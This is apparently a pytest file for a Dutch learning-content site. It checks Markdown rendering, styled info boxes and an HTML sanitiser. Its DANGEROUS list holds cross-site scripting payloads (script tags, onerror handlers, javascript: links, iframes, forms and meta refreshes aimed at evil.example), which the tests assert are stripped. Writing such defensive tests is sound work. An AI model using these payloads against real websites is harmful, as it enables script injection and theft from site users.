"""Rendering: Markdown via markdown-it-py, raw HTML sanitised to an allow-list with nh3."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from convolab import content
from convolab.content import render_markdown, sanitize_html


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Collect:
    c = Collect()
    c.feed(html)
    return c


def box(kind: str, title: str, text: str) -> str:
    return (
        f'<div class="dwengo-content {kind}">\n<h2 class="title">{title}</h2>\n'
        f'<div class="content">\n<p>{text}</p>\n</div>\n</div>\n'
    )


def test_the_three_box_kinds_survive_rendering():
    md = "# Les\n\n" + "\n".join(
        box(kind, f"Titel {kind}", f"Tekst {kind} met **vet**")
        for kind in ("sideinfo", "assignment", "important")
    )
    doc = parse(render_markdown(md))
    boxes = [
        a["class"] for tag, a in doc.tags if tag == "div" and "dwengo-content" in a.get("class", "")
    ]
    assert boxes == [
        "dwengo-content sideinfo",
        "dwengo-content assignment",
        "dwengo-content important",
    ]
    titles = [a for tag, a in doc.tags if tag == "h2"]
    assert [a.get("class") for a in titles] == ["title"] * 3
    assert sum(1 for tag, a in doc.tags if tag == "div" and a.get("class") == "content") == 3
    assert "Titel assignment" in "".join(doc.text)


def test_box_styles_follow_dwengo():
    css = (
        Path(content.__file__).parents[1] / "web" / "static" / "learning" / "learning.css"
    ).read_text()
    for kind, colour, mark in (
        ("sideinfo", "#0e6942", 'url("bulb.svg") / "💡"'),
        ("assignment", "#fab63c", '"?"'),
        ("important", "#d02625", "⚠"),
    ):
        rule = css.split(f".dwengo-content.{kind} {{", 1)[1].split("}", 1)[0]
        assert f"--box: {colour}" in rule
        after = css.split(f".dwengo-content.{kind} > .title::after {{", 1)[1].split("}", 1)[0]
        assert mark in after
    assert (
        "border-radius: 50%" in css.split(".dwengo-content.assignment > .title::after", 1)[1][:200]
    )


DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="//evil.example/"></iframe>',
    '<iframe src="/\\evil.example/"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=a></form>',
    '<img src="https://evil.example/track.png">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div onclick="alert(1)" onmouseover="alert(2)">x</div>',
    "[x](javascript:alert(1))",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]
SAFE = [
    "# Titel",
    "Gewone tekst met **vet**.",
    '<iframe src="/convolutie?embed=1" title="demo" width="720px" height="800px"></iframe>',
    "[link](/convolutie/leren)",
    "![beeld](img/a.svg)",
    box("sideinfo", "Wist je dat?", "ja"),
    "- een\n- twee",
]


def assert_safe(html: str) -> Collect:
    doc = parse(html)
    for tag, attrs in doc.tags:
        assert tag not in (
            "script",
            "style",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
            "math",
        )
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("srcdoc", "style") or tag in ("td", "th"), (tag, name)
            if name in ("href", "src") and value is not None:
                assert "javascript" not in value.lower().replace(" ", ""), (tag, value)
        if tag == "iframe":
            assert content.is_own_page(attrs["src"]), attrs
        if tag == "img":
            assert not attrs.get("src", "").startswith(("http", "//")), attrs
    return doc


def test_scripts_and_foreign_iframes_never_reach_the_page():
    # safe parts first: an unclosed <style> in DANGEROUS swallows everything after it
    html = render_markdown("\n\n".join(SAFE + DANGEROUS))
    doc = assert_safe(html)
    iframes = [a for t, a in doc.tags if t == "iframe"]
    assert [a["src"] for a in iframes] == ["/convolutie?embed=1"]
    assert iframes[0]["width"] == "720px" and iframes[0]["height"] == "800px"
    assert "<script" not in html.lower() and "evil.example" not in html


def test_each_dangerous_fragment_alone():
    for fragment in DANGEROUS:
        html = render_markdown(f"Tekst\n\n{fragment}\n\nmeer tekst")
        assert_safe(html)
        assert "<script" not in html.lower(), fragment
        assert "evil.example" not in html or "<a " in html, fragment


@given(
    st.lists(st.sampled_from(DANGEROUS + SAFE), min_size=1, max_size=8),
    st.sampled_from(["\n\n", "\n", " ", ""]),
)
def test_any_mix_stays_safe(parts, sep):
    html = render_markdown(sep.join(parts))
    assert_safe(html)
    assert "<script" not in html.lower()


def test_own_pages_only():
    assert content.is_own_page("/convolutie?embed=1")
    for url in ("//evil.example", "/\\evil.example", "https://x.org/", "convolutie", "", "/a b"):
        assert not content.is_own_page(url), url


def test_relative_assets_get_the_object_folder_and_headings_get_ids():
    html = render_markdown(
        '# Een titel\n\n## Een titel\n\n![a](img/a.svg) <img src="./img/b.png" alt="b">\n\n'
        "[c](#een-titel) [d](https://dwengo.org/) [e](/leren)",
        asset_base="/content/objects/x/nl",
    )
    doc = parse(html)
    imgs = [a["src"] for t, a in doc.tags if t == "img"]
    assert imgs == ["/content/objects/x/nl/img/a.svg", "/content/objects/x/nl/img/b.png"]
    ids = [a.get("id") for t, a in doc.tags if t in ("h1", "h2")]
    assert ids == ["een-titel", "een-titel-2"]
    hrefs = [a["href"] for t, a in doc.tags if t == "a"]
    assert hrefs == ["#een-titel", "https://dwengo.org/", "/leren"]
    rels = {a.get("rel") for t, a in doc.tags if t == "a"}
    assert rels == {"noopener noreferrer"}


def test_shipped_objects_render_safely():
    for obj in content.library().objects:
        html = content.render_object(obj, asset_base=f"/content/objects/{obj.hruid}/{obj.language}")
        doc = assert_safe(html)
        for tag, attrs in doc.tags:
            if tag == "iframe":
                assert attrs.get("title"), (obj.file, attrs)
                assert (attrs["width"], attrs["height"]) == ("720px", "800px")
            if tag == "img":
                rel = attrs["src"].split(f"/{obj.language}/", 1)[1]
                assert obj.asset_path(rel) is not None, (obj.file, attrs["src"])
                assert attrs.get("alt"), (obj.file, attrs)


def test_plain_text_and_other_types():
    obj = content.parse_object(
        "---\nhruid: t\nversion: 1\nlanguage: nl\ntitle: T\ndescription: <b>D</b>\n"
        "content_type: text/plain\nestimated_time: 1\n"
        "skos_concepts: ['http://ilearn.ilabt.imec.be/x']\n---\n<script>x</script> a < b\n"
    )
    html = content.render_object(obj)
    assert html.startswith("<pre>") and "<script" not in html and "&lt;script&gt;" in html
    pdf = content.parse_object(
        content.SEED_FILE.read_text().replace(
            'content_type: "text/markdown"', "content_type: application/pdf"
        )
    )
    assert content.render_object(pdf) == "<p>Wat is de convolutieoperatie?</p>"


def test_sanitize_keeps_table_alignment_only():
    html = sanitize_html(
        '<table><tr><td style="text-align:right">1</td><td style="color:red">2</td></tr></table>'
    )
    assert 'style="text-align:right"' in html and "color" not in html
